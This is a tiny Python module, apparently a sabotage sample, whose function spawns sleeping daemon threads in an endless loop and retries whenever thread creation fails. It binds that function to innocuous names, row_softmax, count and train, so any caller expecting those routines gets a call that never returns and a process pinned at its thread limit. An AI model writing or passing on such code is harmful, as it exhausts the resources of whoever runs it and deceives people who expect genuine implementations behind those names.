"""Threads without end."""
import threading
import time


def double(x):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)


row_softmax = count = train = double
